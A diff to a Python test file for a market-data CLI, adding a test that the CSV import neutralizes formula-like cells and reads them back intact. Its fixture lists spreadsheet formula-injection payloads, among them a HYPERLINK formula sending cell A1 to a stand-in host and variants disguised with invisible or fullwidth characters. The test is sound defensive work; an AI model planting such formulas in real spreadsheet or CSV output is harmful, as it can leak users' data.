@@ -7,7 +7,9 @@ rental_table by hand, the error band's path into Monte Carlo, and the CLI in-pro
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import math
 
@@ -209,6 +211,38 @@ def test_import_writes_a_validated_copy_and_keeps_an_existing_file(tmp_path, cap
     assert "2 points" in capsys.readouterr().out
     assert main(["market", "import", str(source), "--out", str(out)]) == 3  # no --force
     assert main(["market", "import", str(source), "--out", str(out), "--force"]) == 0
+
+
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "@SUM(1+1)",
+    "+1+1",
+    "-1+1",
+    "\u200b=1+1",
+    "\u00ad-1+1",
+    "\uff1d1+1",
+)
+
+
+def test_the_written_copy_neutralizes_formula_like_sources_and_reads_back(tmp_path):
+    from econ.text import looks_like_formula
+
+    quoted = ['"' + text.replace('"', '""') + '"' for text in FORMULAS]
+    body = "".join(
+        f"2026-{i + 1:02d}-01,Pub/Idx,H100,0,{3.0 - i / 10},{cell}\n"
+        for i, cell in enumerate(quoted)
+    )
+    source = _write(tmp_path, body)
+    out = tmp_path / "checked.csv"
+    assert main(["market", "import", str(source), "--out", str(out)]) == 0
+    rows = list(csv.reader(io.StringIO(out.read_text())))[1:]
+    for row in rows:  # no cell of the copy reads as a formula in a spreadsheet
+        assert not any(looks_like_formula(cell) for cell in row)
+    assert [row[5] for row in rows] == ["'" + text for text in FORMULAS]
+    points = ri.read_index(out)
+    assert [p.source for p in points] == list(FORMULAS)
+    assert points == ri.read_index(source)
+    assert ri.index_csv(points) == out.read_text()  # writing the copy again changes nothing
 
 
 # --- the CLI ------------------------------------------------------------------------------------
